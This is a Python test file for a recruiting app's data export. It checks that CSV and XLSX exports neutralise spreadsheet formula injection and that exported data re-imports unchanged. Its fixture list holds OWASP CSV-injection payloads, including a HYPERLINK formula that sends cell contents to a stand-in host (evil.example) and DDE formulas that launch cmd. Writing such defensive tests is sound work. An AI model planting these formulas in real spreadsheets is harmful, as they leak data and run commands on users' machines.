"""Exports never hand a spreadsheet a live formula (OWASP CSV injection), and export → import still round-trips."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from talentbridge.domain import OrganizationData, TalentData
from talentbridge.services.exporting import export_entities
from talentbridge.services.file_reading import read_rows
from talentbridge.services.importing import import_file
from talentbridge.services.spreadsheet_formulas import FORMULA_TRIGGERS, neutralize_formula, restore_formula
from talentbridge.storage import Database
from talentbridge.storage.repositories import Repositories

# The payloads of the issue, and the rest of the OWASP list.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store(db: Database) -> None:
    with db.session() as s:
        repos = Repositories(s)
        repos.organizations.add(OrganizationData(name=PAYLOADS[0], kind="ai_startup", external_id="o1"))
        for i, payload in enumerate(PAYLOADS):
            repos.talents.add(TalentData(name=payload, external_id=f"t{i}", resume_text=payload))
        repos.talents.add(TalentData(name="'=quoted already", external_id="tq", resume_text="''twice"))
        repos.talents.add(TalentData(name="평범한 이름", external_id="tn", resume_text="it's fine"))


def _stored(db: Database) -> dict[str, str]:
    """Names as stored (the domain strips surrounding whitespace, so a leading tab or CR goes on the way in)."""
    with db.session() as s:
        return {t.external_id: t.name for t in Repositories(s).talents.iter_all()}


def _plain(text: str) -> bool:
    return not text.startswith(FORMULA_TRIGGERS)


def test_csv_export_neutralises_every_payload(sqlite_database: Database, tmp_path: Path) -> None:
    _store(sqlite_database)
    out = tmp_path / "talents.csv"
    export_entities(sqlite_database, "talents", "csv", out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {r["external_id"]: r["name"] for r in rows}
    stored = _stored(sqlite_database)
    for i in range(len(PAYLOADS)):
        assert names[f"t{i}"] == "'" + stored[f"t{i}"]
    assert names["tn"] == "평범한 이름"
    assert all(_plain(cell) for row in rows for cell in row.values())


def test_xlsx_export_has_no_formula_cells(sqlite_database: Database, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _store(sqlite_database)
    out = tmp_path / "talents.xlsx"
    export_entities(sqlite_database, "talents", "xlsx", out)
    sheet = load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert all(_plain(str(cell.value)) for cell in cells)
    assert "'" + PAYLOADS[0] in {cell.value for cell in cells}


def test_json_lines_export_is_untouched(sqlite_database: Database, tmp_path: Path) -> None:
    _store(sqlite_database)
    out = tmp_path / "talents.jsonl"
    export_entities(sqlite_database, "talents", "jsonl", out)
    names = {row["external_id"]: row["name"] for row in map(json.loads, out.read_text().splitlines())}
    assert names == _stored(sqlite_database)
    assert PAYLOADS[0] in names.values()


def test_parquet_export_is_untouched(sqlite_database: Database, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    _store(sqlite_database)
    out = tmp_path / "talents.parquet"
    export_entities(sqlite_database, "talents", "parquet", out)
    assert set(_stored(sqlite_database).values()) == set(pq.read_table(out).column("name").to_pylist())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_neutralised_export_imports_back_unchanged(sqlite_database: Database, tmp_path: Path, fmt: str) -> None:
    _store(sqlite_database)
    out = tmp_path / f"talents.{fmt}"
    export_entities(sqlite_database, "talents", fmt, out)
    values = [row.values for row in read_rows(out)[1]]
    by_id = {v["external_id"]: v for v in values}
    assert by_id["tq"]["name"] == "'=quoted already" and by_id["tq"]["resume_text"] == "''twice"
    assert by_id["t0"]["name"] == PAYLOADS[0]
    target = Database(f"sqlite:///{tmp_path / 'copy.sqlite3'}")
    target.upgrade()
    try:
        result = import_file(target, "talents", out)
        assert result.rejected == 0
        with target.session() as s:
            stored = {t.external_id: t for t in Repositories(s).talents.iter_all()}
        assert stored["tq"].name == "'=quoted already" and stored["tq"].resume_text == "''twice"
        assert stored["tn"].resume_text == "it's fine"
        assert stored["t3"].name == PAYLOADS[3]
    finally:
        target.dispose()


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "한", " "]), max_size=6))
def test_neutralize_is_safe_and_restore_inverts_it(text: str) -> None:
    cell = neutralize_formula(text)
    assert _plain(cell)
    assert restore_formula(cell) == text


@given(st.text())
def test_neutralize_changes_only_what_it_must(text: str) -> None:
    cell = neutralize_formula(text)
    assert cell == text or cell == "'" + text
    assert restore_formula(cell) == text
